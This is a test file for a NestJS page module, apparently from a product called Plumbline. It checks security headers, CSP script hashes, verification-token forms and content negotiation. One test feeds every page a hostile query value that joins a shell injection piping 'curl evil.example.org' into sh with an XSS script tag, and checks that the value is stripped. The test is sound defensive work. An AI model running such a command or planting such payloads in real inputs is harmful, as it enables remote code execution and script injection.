import { createHash } from 'node:crypto';
import { type INestApplication } from '@nestjs/common';
import request from 'supertest';
import { createEdgeApp } from '../../../../../test/support/edge-app.js';
import { CONSOLE_PATHS } from '../../platform/mail/console-paths.types.js';
import { PageModule } from './page.module.js';

const BROWSER = 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8';
const TOKEN = 'k3Jq_8vT-2mNw5xYz0aBcDeFgHiJkLmNoPqRsTuVwXy';

describe('PageModule', () => {
  let app: INestApplication;
  beforeAll(async () => {
    app = await createEdgeApp({ controllers: [], imports: [PageModule] });
  });
  afterAll(() => app.close());
  const get = (path: string, accept = BROWSER) => request(app.getHttpServer()).get(path).set('Accept', accept);

  it.each(['/', '/billing', '/anomaly/12', ...Object.values(CONSOLE_PATHS)])('returns HTML for %s', async (path) => {
    const answer = await get(path);
    expect(answer.status).toBe(200);
    expect(answer.headers).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-store',
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
      vary: expect.stringContaining('Accept'),
    });
    expect(answer.headers['content-security-policy']).toMatch(/^default-src 'none'; .*frame-ancestors 'none'$/);
  });

  it('offers forms to acknowledge and train from an alert', async () => {
    const { text: anomaly } = await get('/anomaly/7120');
    expect(anomaly).toContain('action="/api/anomaly/7120/acknowledge"');
    expect(anomaly).toContain('action="/api/anomaly/train"');
    expect(anomaly).toContain('name="anomaly_id" type="hidden" value="7120"');
    const { text: incident } = await get('/incident/41?anomaly_id=7120');
    expect(incident).toContain('Acknowledge all of the incident');
    expect(incident).toContain('name="incident" type="hidden" value="true"');
    expect((await get('/incident/41?anomaly_id=x')).text).not.toContain('<form');
    expect((await get('/anomaly/7120%22%3E')).text).not.toContain('<form');
  });

  it.each(['application/json', '*/*', 'application/json, text/html', 'text/plain'])(
    'returns the addresses of the product in one line of text for programs that accept %s at /',
    async (accept) => {
      const answer = await get('/', accept).expect(200);
      expect(answer.headers).toMatchObject({
        'content-type': 'text/plain; charset=utf-8',
        'cache-control': 'no-store',
        vary: expect.stringContaining('Accept'),
      });
      expect(answer.text).toBe(
        'Plumbline: console https://plumbline.example.org/, API https://plumbline.example.org/api, ' +
          'its description https://plumbline.example.org/api/doc, documentation https://plumbline.example.org/docs/\n',
      );
      const head = await request(app.getHttpServer()).head('/').set('Accept', accept).expect(200);
      expect(head.type).toBe('text/plain');
      await request(app.getHttpServer()).post('/').set('Accept', accept).expect(404);
    },
  );

  it('returns a JSON 404 for programs on other paths, and for browsers below the API and ingest paths', async () => {
    for (const accept of ['application/json', '*/*', 'application/json, text/html']) {
      const answer = await get('/login', accept);
      expect([answer.status, answer.type]).toEqual([404, 'application/json']);
    }
    for (const path of ['/api', '/api/unknown', '/v1/unknown', '/ingest/unknown', '/write']) {
      expect([path, (await get(path)).type]).toEqual([path, 'application/json']);
    }
    const post = await request(app.getHttpServer()).post('/verify').set('Accept', BROWSER);
    expect([post.status, post.type]).toEqual([404, 'application/json']);
  });

  it('allows only the script and the style of the page, by their hashes', async () => {
    const { text, headers } = await get('/login');
    const hashOf = (code: string | undefined) =>
      `'sha256-${createHash('sha256')
        .update(code ?? '')
        .digest('base64')}'`;
    const policy = String(headers['content-security-policy']);
    expect(policy).toContain(`script-src ${hashOf(/<script>([\s\S]*?)<\/script>/.exec(text)?.[1])};`);
    expect(policy).toContain(`style-src ${hashOf(/<style>([\s\S]*?)<\/style>/.exec(text)?.[1])};`);
    expect(text.match(/<script|<style/g)).toHaveLength(2);
    expect(text).not.toMatch(/ on\w+=| style=|javascript:/);
  });

  it('returns pages that load nothing, and name no host but their own', async () => {
    for (const path of ['/', ...Object.values(CONSOLE_PATHS)]) {
      const { text } = await get(`${path}?token=${TOKEN}`);
      const hosts = [...text.matchAll(/\bhttps?:\/\/([^/\s'"<&]+)/g)].map(([, host]) => host);
      expect(new Set(hosts)).toEqual(new Set(hosts.length > 0 ? ['plumbline.example.org'] : []));
      expect(text).not.toMatch(/<(link|img|iframe|script src)/);
    }
  });

  it('puts the token of the link into a form and into a command to copy', async () => {
    const { text } = await get(`${CONSOLE_PATHS.verify}?email=ann%40example.org&token=${TOKEN}`);
    expect(text).toContain('<form method="post" action="/api/signup/verify"');
    expect(text).toContain(`<input name="verification_token" type="hidden" value="${TOKEN}">`);
    expect(text).toContain('curl &#39;https://plumbline.example.org/api/signup/verify&#39;');
    expect(text).toContain(`--data-urlencode &#39;verification_token=${TOKEN}&#39;`);
    expect((await get(`${CONSOLE_PATHS.resetPassword}?token=${TOKEN}`)).text).toContain(TOKEN);
    expect((await get(`${CONSOLE_PATHS.confirmEmail}?token=${TOKEN}`)).text).toContain(TOKEN);
    const login = (await get(`${CONSOLE_PATHS.validateLogin}?code=123456&token=${TOKEN}`)).text;
    expect(login).toContain('value="123456"');
    expect(login).toContain(TOKEN);
  });

  it('ignores markup, shell commands and messages in the address', async () => {
    const foreign = encodeURIComponent(`'; curl evil.example.org | sh #"><script>alert(1)</script>`);
    for (const path of ['/', ...Object.values(CONSOLE_PATHS)]) {
      const names = ['token', 'email', 'code', 'error', 'message'];
      const { status, text } = await get(`${path}?${names.map((name) => `${name}=${foreign}`).join('&')}`);
      expect(status).toBe(200);
      expect(text).not.toMatch(/evil|alert\(1\)/);
    }
  });

  it('links to single sign-on if it is configured', async () => {
    expect((await get('/login')).text).not.toContain('/login/sso');
    const env = { OIDC_ISSUER: 'https://id.example.org', OIDC_CLIENT_ID: 'plumbline' };
    const other = await createEdgeApp({
      controllers: [],
      imports: [PageModule],
      env: { ...env, OIDC_LABEL: 'Work & more' },
    });
    const { text } = await request(other.getHttpServer()).get('/login').set('Accept', BROWSER);
    await other.close();
    expect(text).toContain('<a href="https://plumbline.example.org/api/login/sso">Work &amp; more</a>');
  });

  it('shows an error of single sign-on by its code', async () => {
    expect((await get('/login?error=sso_failed&message=x')).text).toContain(
      'The login at the identity provider failed',
    );
    expect((await get('/login')).text).not.toContain('identity provider failed');
  });
});
